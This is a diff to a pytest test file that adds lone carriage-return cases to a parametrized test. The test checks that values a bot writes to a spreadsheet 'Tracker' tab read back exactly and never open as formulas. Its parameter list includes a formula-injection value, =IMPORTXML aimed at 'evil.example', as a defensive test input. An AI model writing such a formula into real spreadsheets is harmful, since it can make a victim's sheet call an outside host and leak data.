@@ -40,7 +40,8 @@ def test_a_spreadsheet_export_with_a_byte_order_mark_and_blank_rows_reads_cleanl
 
 @pytest.mark.parametrize("value", ['=IMPORTXML("http://evil.example","//a")', "+1", "-5", "@me", "\tx",
                                    "'quoted", "plain", "comma, \"quote\"\nnewline", "Ünïcödé ✓",
-                                   "carriage\rreturn\r\nand CRLF", "semi;colon\ttab", "\x00nul"])
+                                   "carriage\rreturn\r\nand CRLF", "a lone CR\r", "\r", "semi;colon\ttab",
+                                   "\x00nul"])
 def test_what_the_bot_writes_reads_back_exactly_and_never_opens_as_a_formula(workbook, tmp_path, value):
     workbook.append_rows("Tracker", [[value, "RCA-1"]])
     assert workbook.read_tabs(["Tracker"])["Tracker"][-1] == [value, "RCA-1"]
